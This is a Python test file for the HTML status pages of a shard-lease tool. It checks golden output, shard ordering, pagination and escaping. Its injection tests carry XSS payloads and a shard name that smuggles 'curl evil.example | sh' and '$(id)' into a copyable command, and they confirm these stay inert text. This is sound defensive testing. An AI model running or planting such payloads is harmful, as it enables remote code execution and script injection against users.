"""The pages as HTML of what was read: their texts, their order, and that no text is markup.

KCLRUN_GOLDEN=write .venv/bin/python -m pytest tests/unit/page/test_page_views.py

writes the files of `golden/` again; the change of a page is then read in the diff.
"""

import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import pytest

from kclrun.model.lease import Halt, Lease, LeaseKey, OwnerId
from kclrun.model.output import Cursor, StoredCursors
from kclrun.model.sequence import ExtendedSequenceNumber
from kclrun.model.time import WallTime
from kclrun.operating.doctor.findings import Finding, Kind
from kclrun.page.server import routes
from kclrun.page.snapshot import ReadProblem, Snapshot
from tests.support.tables import over_rows
from tests.unit.page.fleet import ABOUT, NOW, A, behind, key, lease, small_fleet, snapshot_of

GOLDEN = Path(__file__).parent / "golden"
PAGES = {
    "fleet": ("/", {}),
    "shards": ("/shards", {}),
    "shard": ("/shard", {"key": key(1)}),
    "lineage": ("/lineage", {}),
    "outputs": ("/outputs", {}),
    "settings": ("/settings", {"live": "off"}),
}
VOID = {"meta", "link"}


def shown(snapshot: Snapshot, path: str, **query: str) -> str:
    return routes(ABOUT, lambda: snapshot)[path](query).body.decode()


class Reader(HTMLParser):
    """The tags, the addresses and the text of a page; every element must be closed in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self._open: list[str] = []
        self.feed(page)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(self.words)


@over_rows("name", PAGES)
def test_the_pages_of_a_small_fleet_are_those_of_the_golden_files(name):
    path, query = PAGES[name]
    page = shown(small_fleet(), path, **query)
    reported = re.sub(r"(?=<(?:tr|li|div|section|h2|main|header|footer|p|dt)\b)", "\n", page)
    file = GOLDEN / f"{name}.html"
    if os.environ.get("KCLRUN_GOLDEN") == "write":
        file.write_text(reported)

    Reader(page)
    assert reported == file.read_text()


HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>\x1b]0;x\x07\u202e&amp;`${7*7}"


def hostile_fleet() -> Snapshot:
    """Every text that others write is hostile."""
    name = LeaseKey(f"shardId-{HOSTILE}")
    owner = OwnerId(f"kclrun:{HOSTILE.replace(':', '')}:slot:nonce")
    at = ExtendedSequenceNumber("5")
    row = Lease(
        key=name,
        checkpoint=at,
        owner=owner,
        parents=frozenset({HOSTILE}),
        children=frozenset({f"{HOSTILE}2"}),
        halt=Halt(HOSTILE, WallTime(float("1e300"))),
        start=HOSTILE,
        offered_to=owner,
        offered_by=owner,
        taken_from=owner,
        checkpoint_owner=owner,
        outputs=StoredCursors(at, ((HOSTILE, Cursor(at)),)),
    )
    child = msgspec.structs.replace(row, key=LeaseKey(HOSTILE), parents=frozenset({name}))
    return msgspec.structs.replace(
        snapshot_of(row, child),
        broken={f"{HOSTILE}3": HOSTILE},
        findings=(Finding(kind=Kind.HALTED, keys=(name,), evidence=HOSTILE, advice=HOSTILE),),
        problems=(ReadProblem(HOSTILE, HOSTILE, NOW),),
    )


@pytest.mark.parametrize("path", ["/", "/shards", "/shard", "/lineage", "/outputs", "/settings"])
@pytest.mark.parametrize("asked", [f"shardId-{HOSTILE}", f"{HOSTILE}-not-there"])
def test_no_text_of_others_becomes_markup_an_address_or_a_control(path, asked):
    page = shown(hostile_fleet(), path, key=asked, state=HOSTILE, sort=HOSTILE, live=HOSTILE)

    read = Reader(page)
    assert not {"img", "iframe", "form", "style"} & read.tags
    assert (
        page.count("<script") == page.count('<script src="/live.js" defer="defer"></script>') == 1
    )
    for name, value in read.attributes:
        assert not name.startswith("on")
        if name == "href":
            assert value.startswith(("/", "#"))
            assert not value.startswith("//")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", page)


def test_a_command_to_copy_holds_a_hostile_shard_as_one_word():
    import html
    import shlex

    name = LeaseKey("shardId-1; curl evil.example | sh #$(id)")
    halted = Lease(key=name, checkpoint=ExtendedSequenceNumber("5"), owner=A, halt=Halt("why", NOW))

    page = shown(snapshot_of(halted), "/")

    (command,) = re.findall(r"<code>(kclrun leases .*?)</code>", page)
    assert shlex.split(html.unescape(command)) == [
        *["kclrun", "leases", "--config", "app.yaml", "resume", name, "--yes"]
    ]


def test_a_text_and_a_page_of_huge_rows_are_of_limited_length():
    huge = "x" * 40_000
    rows = [
        lease(number, OwnerId(huge), halt=Halt(huge, NOW), children=frozenset({huge}))
        for number in range(100)
    ]
    for path in ("/", "/shards", "/shard"):
        assert len(shown(snapshot_of(*rows), path, key=key(1))) < 150_000


def test_the_most_urgent_shards_come_first_and_by_id_on_demand():
    fleet = small_fleet()

    def order(**query: str) -> list[int]:
        page = shown(fleet, "/shards", **query)
        named = re.findall(r'<th scope="row".*?>shardId-(\w+)</a>', page)
        return [int(each) if each.isdecimal() else -1 for each in named]

    assert order() == [1, 2, -1, 4, 5, 3, 0]
    assert order(sort="shard") == [0, 1, 2, 3, 4, 5, -1]
    assert order(state="silent") == [4]
    assert order(state="idle") == [5]
    assert order(state="halted") == [1]


def test_a_child_that_waits_for_its_parents_is_not_without_an_owner():
    waiting = lease(1, None, parents=frozenset({key(0)}))

    assert "0 shards without an owner" in shown(
        snapshot_of(lease(0), waiting), "/shards", state="idle"
    )
    assert "1 shards without an owner" in shown(snapshot_of(waiting), "/shards", state="idle")


@pytest.mark.seconds
def test_a_large_stream_has_several_pages_of_shards():
    fleet = snapshot_of(*(lease(number) for number in range(2_001)))

    first, last = shown(fleet, "/shards"), shown(fleet, "/shards", **{"from": "2000"})

    assert first.count("<tr>") == 1_001
    assert last.count("<tr>") == 2
    assert "from=1000" in first
    assert "rows 2001 to 2001" in last
    for wrong in ("-1", "9999999", "x", "²"):
        assert "<tr>" in shown(fleet, "/shards", **{"from": wrong})


def test_it_loads_itself_again_unless_told_not_to_and_links_keep_that():
    fleet = small_fleet()

    assert '<meta http-equiv="refresh" content="10">' in shown(fleet, "/")
    still = shown(fleet, "/", live="off")
    assert "http-equiv" not in still
    assert 'href="/shards?live=off"' in still


def test_before_the_first_reading_every_page_says_that_it_knows_nothing():
    empty = Snapshot(taken_at=NOW)

    for path in ("/", "/shards", "/lineage", "/outputs"):
        assert "the table is not read yet" in shown(empty, path)
    assert "Not known yet" in shown(empty, "/")


def test_a_shard_that_is_nowhere_is_a_404():
    assert routes(ABOUT, small_fleet)["/shard"]({"key": "x"}).status == 404
    assert routes(ABOUT, small_fleet)["/shard"]({}).status == 404


def test_a_listed_shard_without_a_lease_is_shown_with_its_lag():
    line = behind(7, 90.0, "no lease", "no lease: a running manager makes one")
    fleet = snapshot_of(lease(0), lags={key(7): line})

    assert "1m 30s" in Reader(shown(fleet, "/shards", state="idle")).text
